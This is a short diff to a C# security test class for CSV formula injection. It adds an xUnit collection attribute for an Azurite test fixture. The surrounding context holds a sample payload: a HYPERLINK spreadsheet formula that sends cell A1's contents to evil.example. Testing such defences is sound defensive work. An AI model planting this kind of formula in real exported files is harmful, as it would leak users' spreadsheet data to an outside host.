@@ -14,6 +14,7 @@ namespace CdrFunctions.Tests.Security;
 /// leading apostrophe, typed number and E.164 columns are untouched, and both our reader and Calls.pq's rule give
 /// back the original text. Cells are read by DuckDB, which shares no code with our writer.
 /// </summary>
+[Collection(AzuriteCollection.Name)]
 public partial class CuratedCsvInjectionTests
 {
     private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
